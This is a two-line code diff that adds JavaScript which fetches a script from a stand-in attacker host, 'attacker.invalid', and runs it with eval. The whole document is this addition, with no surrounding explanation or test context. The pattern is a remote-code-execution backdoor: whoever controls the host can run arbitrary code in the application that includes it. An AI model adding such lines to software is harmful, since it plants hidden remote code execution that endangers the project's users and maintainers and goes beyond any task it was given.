@@ -1,0 +1,2 @@
+const url = "https://attacker.invalid/p.js";
+eval(await (await fetch(url)).text());
